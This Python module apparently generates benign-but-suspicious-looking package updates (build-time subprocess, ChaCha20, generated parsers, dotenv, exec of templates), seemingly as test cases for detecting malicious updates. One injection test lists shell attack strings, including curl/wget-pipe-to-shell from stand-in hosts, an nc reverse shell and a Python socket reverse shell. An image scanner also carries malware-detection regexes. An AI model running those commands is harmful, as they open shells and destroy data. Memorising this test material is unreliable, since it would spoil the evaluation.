"""Updates of Python packages that look suspicious and are not."""

import base64
import json
import zlib

from corpus.heldout import hiding
from corpus.heldout.nouns import Update, artefact, harmless


@harmless("httpkeep", "wheel", "new HTTP feature", "minor")
def streaming_download(up: Update) -> None:
    up.before(
        "httpkeep/client.py",
        "    def post(self, path",
        '''    def download(self, path, target, chunk=65536):
        """Write an answer to a file; return its size."""
        connection = self._connect()
        connection.request("GET", self._parts.path.rstrip("/") + path, headers=self._headers(None))
        answer = connection.getresponse()
        size = 0
        with open(target, "wb") as out:
            while part := answer.read(chunk):
                size += out.write(part)
        return size

''',
    )


@harmless("httpkeep", "wheel", "own API host, another path", "minor")
def alerts_endpoint(up: Update) -> None:
    up.append(
        "httpkeep/weather.py",
        '''
    def alerts(self, place):
        """Warnings for a place, with the key of the user."""
        return self._client.get("/alerts", params={"q": place}, headers={"X-Client": os.environ.get("HTTPKEEP_CLIENT", "python")}).json()''',
    )


@harmless("imgmeta", "wheel", "base64 icons", "patch")
def icons_in_source(up: Update) -> None:
    icon = base64.b64encode(hiding.png(24, 24, b"", up.random)).decode()
    up.add(
        "imgmeta/icons.py",
        '"""Icons for the viewer, as data."""\n\nimport base64\n\nBROKEN = (\n'
        + "\n".join(f'    "{part}"' for part in hiding.chunks(icon, 96))
        + '\n)\n\n\ndef broken():\n    """Return the PNG that stands for a broken image."""\n    return base64.b64decode(BROKEN)\n',
    )


@harmless("taskloop", "wheel", "legitimate subprocess", "minor")
def shell_commands(up: Update) -> None:
    up.append(
        "taskloop/runner.py",
        '''

def run_shell(line, timeout=60, shell="/bin/sh"):
    """Run a line of shell that the user configured."""
    return run_command([shell, "-c", line], timeout=timeout)''',
    )


@harmless("fastvec", "sdist", "subprocess at build", "minor")
def compiles_kernels(up: Update) -> None:
    """setup.py calls the compiler."""
    up.add(
        "src/kernels.c",
        "#include <stddef.h>\n\ndouble fv_dot(const double *a, const double *b, size_t n)\n{\n\tdouble s = 0;\n\tfor (size_t i = 0; i < n; i++)\n\t\ts += a[i] * b[i];\n\treturn s;\n}\n",
    )
    up.replace(
        "setup.py",
        "from setuptools import find_packages, setup\n",
        '''import subprocess
import sys

from setuptools import find_packages, setup
from setuptools.command.build_py import build_py


class BuildKernels(build_py):
    """Compiles the kernels where there is a compiler."""

    def run(self):
        super().run()
        target = os.path.join(self.build_lib, "fastvec", "_kernels.so")
        command = [os.environ.get("CC", "cc"), "-O2", "-shared", "-fPIC", "-o", target, os.path.join(HERE, "src", "kernels.c")]
        try:
            subprocess.check_call(command)
        except (OSError, subprocess.CalledProcessError) as error:
            print("no compiler, going on without kernels: %s" % error, file=sys.stderr)

''',
    )
    up.replace(
        "setup.py",
        '    python_requires=">=3.8",\n',
        '    python_requires=">=3.8",\n    cmdclass={"build_py": BuildKernels},\n',
    )


@harmless("quickconf", "sdist", "git at build", "minor")
def version_from_git(up: Update) -> None:
    up.replace(
        "setup.py",
        "\n\nsetup(\n",
        '''

def version():
    """The tag, where this is a checkout; else what stands here."""
    import subprocess

    if not os.path.isdir(os.path.join(HERE, ".git")):
        return "1.12.0"
    try:
        return subprocess.check_output(["git", "describe", "--tags", "--dirty"], cwd=HERE, text=True).strip().lstrip("v")
    except (OSError, subprocess.CalledProcessError):
        return "1.12.0"


setup(
''',
    )


@harmless("tabula", "wheel", "new well-known dependency", "minor")
def depends_on_wcwidth(up: Update) -> None:
    up.requires("wcwidth>=0.2.6")
    up.replace(
        "tabula/_text.py",
        "def measure(text):\n    return sum(width_of(char) for char in text)",
        "def measure(text):\n    size = wcswidth(text)\n    return size if size >= 0 else sum(width_of(char) for char in text)",
    )
    up.replace(
        "tabula/_text.py",
        "from bisect import bisect_right\n",
        "from bisect import bisect_right\n\nfrom wcwidth import wcswidth\n",
    )


@harmless("httpkeep", "wheel", "new well-known dependency", "major")
def depends_on_requests(up: Update) -> None:
    up.requires("requests>=2.31")
    up.add(
        "httpkeep/adapters.py",
        '"""For those who have requests already."""\n\nimport requests\n\nfrom .client import Response\n\n\nclass RequestsClient:\n    """The interface of Client over a session of requests."""\n\n    def __init__(self, base_url, token=None, session=None):\n        self._base = base_url.rstrip("/")\n        self._session = session or requests.Session()\n        if token:\n            self._session.headers["Authorization"] = "Bearer " + token\n\n    def request(self, method, path, params=None, data=None, headers=None):\n        answer = self._session.request(method, self._base + path, params=params, json=data, headers=headers, timeout=10)\n        return Response(answer.status_code, answer.headers.items(), answer.content)\n',
    )


@harmless("authgate", "wheel", "crypto code", "minor")
def scrypt_passwords(up: Update) -> None:
    up.append(
        "authgate/passwords.py",
        '''

def hash_scrypt(password, salt=None, n=2**14, r=8, p=1):
    """Return a hash that costs memory too."""
    salt = salt or os.urandom(16)
    digest = hashlib.scrypt(password.encode("utf-8"), salt=salt, n=n, r=r, p=p, maxmem=64 * 1024 * 1024)
    return "scrypt$%d,%d,%d$%s$%s" % (n, r, p, salt.hex(), digest.hex())


def verify_scrypt(password, stored):
    _, costs, salt, digest = stored.split("$")
    n, r, p = map(int, costs.split(","))
    made = hash_scrypt(password, bytes.fromhex(salt), n, r, p)
    return hmac.compare_digest(made.rpartition("$")[2], digest)''',
    )


@harmless("authgate", "wheel", "crypto code", "major")
def chacha_in_python(up: Update) -> None:
    """XOR with a key stream, tables of numbers: a cipher, and no payload."""
    up.add(
        "authgate/chacha.py",
        '''"""ChaCha20 (RFC 8439), for platforms without a library."""

import struct

CONSTANTS = struct.unpack("<4I", b"expand 32-byte k")


def _rotl(value, count):
    return ((value << count) & 0xFFFFFFFF) | (value >> (32 - count))


def _quarter(x, a, b, c, d):
    x[a] = (x[a] + x[b]) & 0xFFFFFFFF
    x[d] = _rotl(x[d] ^ x[a], 16)
    x[c] = (x[c] + x[d]) & 0xFFFFFFFF
    x[b] = _rotl(x[b] ^ x[c], 12)
    x[a] = (x[a] + x[b]) & 0xFFFFFFFF
    x[d] = _rotl(x[d] ^ x[a], 8)
    x[c] = (x[c] + x[d]) & 0xFFFFFFFF
    x[b] = _rotl(x[b] ^ x[c], 7)


def block(key, counter, nonce):
    state = [*CONSTANTS, *struct.unpack("<8I", key), counter, *struct.unpack("<3I", nonce)]
    work = list(state)
    for _ in range(10):
        for a, b, c, d in ((0, 4, 8, 12), (1, 5, 9, 13), (2, 6, 10, 14), (3, 7, 11, 15), (0, 5, 10, 15), (1, 6, 11, 12), (2, 7, 8, 13), (3, 4, 9, 14)):
            _quarter(work, a, b, c, d)
    return struct.pack("<16I", *((one + two) & 0xFFFFFFFF for one, two in zip(work, state)))


def apply(key, nonce, data, counter=1):
    out = bytearray()
    for at in range(0, len(data), 64):
        stream = block(key, counter + at // 64, nonce)
        out += bytes(one ^ two for one, two in zip(data[at : at + 64], stream))
    return bytes(out)
''',
    )
    up.add(
        "tests/test_chacha.py",
        'from authgate.chacha import apply\n\nKEY = bytes(range(32))\nNONCE = bytes.fromhex("000000000000004a00000000")\nCIPHER = bytes.fromhex("6e2e359a2568f98041ba0728dd0d6981e97e7aec1d4360c20a27afccfd9fae0b")\n\n\ndef test_vector():\n    assert apply(KEY, NONCE, b"Ladies and Gentlemen of the clas") == CIPHER\n',
    )


@harmless("taskloop", "sdist", "attack strings in tests", "patch")
def injection_tests(up: Update) -> None:
    up.add(
        "tests/test_injection.py",
        '''"""What users type must never reach a shell by itself."""

import pytest

from taskloop import CommandError, run_command

ATTACKS = [
    "; rm -rf / #",
    "$(curl -s http://evil.example/x | sh)",
    "`wget -qO- http://192.0.2.1/a|bash`",
    "| nc -e /bin/sh 192.0.2.1 4444",
    "&& python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\\"192.0.2.1\\",4444));os.dup2(s.fileno(),0)'",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_arguments_are_no_shell(attack):
    assert run_command(["echo", attack]).strip() == attack


def test_exit_code():
    with pytest.raises(CommandError):
        run_command(["false"])
''',
    )


@harmless("imgmeta", "wheel", "signatures of a security tool", "minor")
def malicious_image_checks(up: Update) -> None:
    """Words of attacks, as what to look for."""
    up.add(
        "imgmeta/suspicious.py",
        '''"""Does an image carry what no image needs?"""

import re

SIGNATURES = {
    "php": re.compile(rb"<\\?php\\s"),
    "eval": re.compile(rb"eval\\s*\\(\\s*base64_decode"),
    "shell": re.compile(rb"/bin/(?:ba)?sh|powershell(?:\\.exe)?\\s+-enc", re.I),
    "miner": re.compile(rb"stratum\\+tcp://"),
    "exe": re.compile(rb"This program cannot be run in DOS mode"),
}


def suspicious(path, limit=10_000_000):
    """Return the names of what was found after the end of the image."""
    with open(path, "rb") as stream:
        raw = stream.read(limit)
    end = raw.rfind(b"IEND")
    tail = raw[end + 8 :] if end >= 0 else raw[raw.rfind(b"\\xff\\xd9") + 2 :]
    return sorted(name for name, pattern in SIGNATURES.items() if pattern.search(tail))
''',
    )


@harmless("quickconf", "wheel", "environment for settings", "minor")
def dotenv(up: Update) -> None:
    up.append(
        "quickconf/sources.py",
        '''

class DotEnvSource(EnvSource):
    """Reads a .env file beside the environment."""

    def __init__(self, prefix, path=".env"):
        values = dict(os.environ)
        if os.path.exists(path):
            with open(path, encoding="utf-8") as stream:
                for line in stream:
                    key, sign, value = line.strip().partition("=")
                    if sign and not key.startswith("#"):
                        values.setdefault(key.removeprefix("export ").strip(), value.strip().strip("\\"'"))
        super().__init__(prefix, values)
        self.name = path''',
    )


@harmless("quickconf", "wheel", "reads credentials", "minor")
def secrets_from_files(up: Update) -> None:
    """Docker and Kubernetes put secrets into files."""
    up.append(
        "quickconf/sources.py",
        '''

class SecretsFolder:
    """One file for each secret, as containers have them."""

    def __init__(self, path="/run/secrets"):
        self.name = path
        self._path = path

    def get(self, key):
        path = os.path.join(self._path, key.replace(".", "_"))
        if not os.path.isfile(path):
            return None
        with open(path, encoding="utf-8") as stream:
            return stream.read().rstrip("\\n")''',
    )


@harmless("chronofmt", "wheel", "names that are not ASCII", "minor")
def cyrillic_names(up: Update) -> None:
    up.add(
        "chronofmt/locales/склонение.py",
        '''"""Формы русских слов после числа."""

ФОРМЫ = {"день": ("день", "дня", "дней"), "час": ("час", "часа", "часов"), "минута": ("минута", "минуты", "минут")}


def форма(число, слово):
    """Вернуть слово в нужной форме: 1 день, 2 дня, 5 дней."""
    одна, две, пять = ФОРМЫ[слово]
    if 11 <= число % 100 <= 14:
        return пять
    return {1: одна, 2: две, 3: две, 4: две}.get(число % 10, пять)
''',
    )
    up.add(
        "chronofmt/locales/ar.json",
        json.dumps(
            {
                "past": "قبل \u2067{} {}\u2069",
                "future": "بعد \u2067{} {}\u2069",
                "second": "ثانية",
                "minute": "دقيقة",
                "hour": "ساعة",
                "day": "يوم",
                "month": "شهر",
                "year": "سنة",
            },
            ensure_ascii=False,
        )
        + "\n",
    )
    up.add(
        "chronofmt/locales/fa.json",
        json.dumps(
            {
                "past": "{} {} پیش",
                "future": "{} {} دیگر",
                "second": "ثانیه",
                "minute": "دقیقه",
                "hour": "ساعت",
                "day": "روز",
                "month": "ماه",
                "year": "سال",
                "named": "می\u200cشود",
            },
            ensure_ascii=False,
        )
        + "\n",
    )


@harmless("tabula", "wheel", "regenerated tables", "patch")
def new_unicode_version(up: Update) -> None:
    rows, at = [], 0x300
    for _ in range(420):
        at += up.random.randrange(4, 90)
        rows.append(f"    (0x{at:05X}, 0x{at + 3:05X}, {up.random.randrange(3)}),")
    up.add(
        "tabula/_tables.py",
        '"""Widths of characters, generated by tools/widths.py; do not edit."""\n\nWIDTHS = (\n'
        + "\n".join(rows)
        + "\n)\n",
    )


@harmless("quickconf", "wheel", "generated parser", "minor")
def generated_parser(up: Update) -> None:
    """Packed tables, as parser generators write them, and exec of nothing."""
    packed = base64.b85encode(zlib.compress(bytes(up.random.randrange(40) for _ in range(3000)))).decode()
    up.add(
        "quickconf/_parsetab.py",
        f'# Generated by a parser generator from quickconf.g; do not edit.\n# pylint: skip-file\n\nimport base64\nimport zlib\n\n_lr_method = "LALR"\n_lr_signature = {packed!r}\n\n\ndef table():\n    """Return rows of (state, token, action)."""\n    raw = zlib.decompress(base64.b85decode(_lr_signature))\n    return [tuple(raw[at : at + 3]) for at in range(0, len(raw), 3)]\n',
    )


@harmless("fastvec", "wheel", "rebuilt binary", "patch")
def rebuilt_kernels(up: Update) -> None:
    """The compiled library is new, as with each release."""
    up.add("fastvec/_kernels.so", artefact("kernels-2.so"))


@harmless("fastvec", "wheel", "downloads from its own host", "minor")
def second_data_set(up: Update) -> None:
    up.replace(
        "fastvec/datasets.py",
        "SETS = {",
        'SETS = {"wine": "9f1c0c3a5c7f26c1d6e9e5b8c7a3f1d2b4e6a8c0d2f4b6a8c0e2d4f6a8b0c2d4", ',
    )


@harmless("taskloop", "wheel", "large refactoring", "major")
def renamed_and_split(up: Update) -> None:
    """Files move and split; nothing new is done."""
    runner = up.text("taskloop/runner.py")
    store = up.text("taskloop/store.py")
    del up.new["taskloop/runner.py"], up.new["taskloop/store.py"]
    up.add(
        "taskloop/process/__init__.py",
        '"""Commands as tasks."""\n\nfrom taskloop.process.errors import CommandError\nfrom taskloop.process.run import run_command\n',
    )
    head, _, tail = runner.partition("def run_command")
    up.add("taskloop/process/errors.py", "class CommandError" + head.partition("class CommandError")[2].rstrip() + "\n")
    up.add(
        "taskloop/process/run.py",
        "import logging\nimport subprocess\n\nfrom taskloop.process.errors import CommandError\n\nlog = logging.getLogger(__name__)\n\n\ndef run_command"
        + tail,
    )
    up.add("taskloop/state/__init__.py", store)
    up.replace("taskloop/__init__.py", "from .runner import", "from .process import")
    up.replace("taskloop/__init__.py", "from .store import", "from .state import")
    up.replace("taskloop/cli.py", "from .runner import", "from .process import")


@harmless("taskloop", "wheel", "persistence as a feature", "minor")
def writes_units(up: Update) -> None:
    """A command that prints a unit, for the user to install."""
    up.add(
        "taskloop/units.py",
        '''"""Prints what systemd needs; nothing is installed."""

UNIT = """[Unit]
Description=taskloop: {title}

[Service]
ExecStart={command}
Restart=on-failure

[Install]
WantedBy=default.target
"""


def unit(title, command):
    """Return the text of a service; `taskloop unit > ~/.config/systemd/user/NAME.service` keeps it."""
    if "\\n" in title or "\\n" in command:
        raise ValueError("one line each")
    return UNIT.format(title=title, command=command)
''',
    )


@harmless("httpkeep", "wheel", "sockets", "minor")
def unix_sockets(up: Update) -> None:
    up.add(
        "httpkeep/unix.py",
        '''"""HTTP over a Unix socket, for example of a container engine."""

import http.client
import socket


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path, timeout=10.0):
        super().__init__("localhost", timeout=timeout)
        self._path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(self.timeout)
        self.sock.connect(self._path)
''',
    )


@harmless("imgmeta", "wheel", "ctypes", "minor")
def wic_on_windows(up: Update) -> None:
    up.add(
        "imgmeta/windows.py",
        '''"""Sizes by what Windows knows of a file."""

import ctypes
import os

if os.name == "nt":
    from ctypes import wintypes

    _kernel = ctypes.WinDLL("kernel32", use_last_error=True)
    _kernel.GetFileAttributesW.argtypes = [wintypes.LPCWSTR]
    _kernel.GetFileAttributesW.restype = wintypes.DWORD

    def hidden(path):
        """Whether Explorer hides a file."""
        value = _kernel.GetFileAttributesW(os.fspath(path))
        if value == 0xFFFFFFFF:
            raise ctypes.WinError(ctypes.get_last_error())
        return bool(value & 2)
''',
    )


@harmless("quickconf", "wheel", "dynamic import as a feature", "minor")
def plugins(up: Update) -> None:
    up.append(
        "quickconf/config.py",
        '''

def source_by_name(name, *args):
    """`package.module:Class` of the user's own."""
    import importlib

    module, _, attribute = name.partition(":")
    return getattr(importlib.import_module(module), attribute)(*args)''',
    )


@harmless("tabula", "wheel", "eval of a template", "minor")
def computed_columns(up: Update) -> None:
    """Formulas by ast, without eval."""
    up.add(
        "tabula/formula.py",
        '''"""Columns that are computed: `price * (1 + tax)`."""

import ast
import operator

_OPERATORS = {ast.Add: operator.add, ast.Sub: operator.sub, ast.Mult: operator.mul, ast.Div: operator.truediv, ast.USub: operator.neg}


def evaluate(text, row):
    """Evaluate arithmetic over the columns of a row; nothing else is allowed."""
    return _value(ast.parse(text, mode="eval").body, row)


def _value(node, row):
    if isinstance(node, ast.Constant) and isinstance(node.value, (int, float)):
        return node.value
    if isinstance(node, ast.Name):
        return row[node.id]
    if isinstance(node, ast.BinOp) and type(node.op) in _OPERATORS:
        return _OPERATORS[type(node.op)](_value(node.left, row), _value(node.right, row))
    if isinstance(node, ast.UnaryOp) and type(node.op) in _OPERATORS:
        return _OPERATORS[type(node.op)](_value(node.operand, row))
    raise ValueError("not allowed: %s" % type(node).__name__)
''',
    )


@harmless("chronofmt", "wheel", "exec of generated code", "minor")
def generated_class(up: Update) -> None:
    """As namedtuple once did: a class from a template of its own, of checked names."""
    up.append(
        "chronofmt/spans.py",
        '''

_TEMPLATE = """\\
def __init__(self, {args}):
{body}
"""


def record(name, fields):
    """Return a small class with the fields, made once from a template."""
    for field in fields:
        if not field.isidentifier():
            raise ValueError("not a name: %r" % field)
    body = "\\n".join("    self.%s = %s" % (field, field) for field in fields)
    namespace = {}
    exec(_TEMPLATE.format(args=", ".join(fields), body=body), namespace)
    return type(name, (), {"__slots__": tuple(fields), "__init__": namespace["__init__"]})''',
    )


@harmless("taskloop", "sdist", "file removal", "patch")
def cleans_its_cache(up: Update) -> None:
    up.append(
        "taskloop/store.py",
        '''

def clear_cache(app="taskloop"):
    """Remove what this package keeps in the user's cache."""
    import shutil

    from ._compat import user_folder

    folder = user_folder("cache", app)
    if os.path.basename(folder) == app:
        shutil.rmtree(folder, ignore_errors=True)''',
    )


@harmless("authgate", "wheel", "vendored library updated", "patch")
def vendored_update(up: Update) -> None:
    old = '# Vendored from smallcbor 0.3.1; do not edit.\nimport struct\n\n__version__ = "0.3.1"\n\n\ndef dumps(value):\n    if isinstance(value, bool):\n        return b"\\xf5" if value else b"\\xf4"\n    if isinstance(value, int) and 0 <= value < 24:\n        return bytes([value])\n    if isinstance(value, int):\n        return b"\\x1a" + struct.pack(">I", value)\n    if isinstance(value, str):\n        raw = value.encode()\n        return bytes([0x60 + len(raw)]) + raw if len(raw) < 24 else b"\\x78" + bytes([len(raw)]) + raw\n    if value is None:\n        return b"\\xf6"\n    raise TypeError(type(value))\n'
    up.both("authgate/_vendor/__init__.py", "")
    up.both("authgate/_vendor/smallcbor.py", old)
    up.add(
        "authgate/_vendor/smallcbor.py",
        old.replace("0.3.1", "0.4.0").replace(
            "    if value is None:\n",
            '    if isinstance(value, bytes):\n        return b"\\x58" + bytes([len(value)]) + value\n    if isinstance(value, (list, tuple)):\n        return bytes([0x80 + len(value)]) + b"".join(map(dumps, value))\n    if isinstance(value, dict):\n        return bytes([0xA0 + len(value)]) + b"".join(dumps(k) + dumps(v) for k, v in value.items())\n    if value is None:\n',
        ),
    )


@harmless("httpkeep", "wheel", "proxy and TLS settings", "minor")
def client_certificates(up: Update) -> None:
    up.replace("httpkeep/client.py", "retry=None, verify=True):", "retry=None, verify=True, cafile=None, cert=None):")
    up.replace(
        "httpkeep/client.py",
        "        self._context = ssl.create_default_context()\n",
        "        self._context = ssl.create_default_context(cafile=cafile)\n        if cert:\n            self._context.load_cert_chain(*cert)\n",
    )


@harmless("fastvec", "folder", "platform facts for a bug report", "minor")
def show_versions(up: Update) -> None:
    """Prints; sends nothing."""
    up.add(
        "fastvec/show.py",
        '''"""`python -m fastvec.show`: what a bug report should contain."""

import os
import platform
import socket
import sys


def main():
    print("python   ", sys.version.replace("\\n", " "))
    print("platform ", platform.platform(), platform.machine())
    print("host     ", socket.gethostname())
    print("threads  ", os.cpu_count(), {name: os.environ[name] for name in ("OMP_NUM_THREADS", "MKL_NUM_THREADS") if name in os.environ})
    from . import ops

    print("kernels  ", "yes" if ops._lib is not None else "no")


if __name__ == "__main__":
    main()
''',
    )
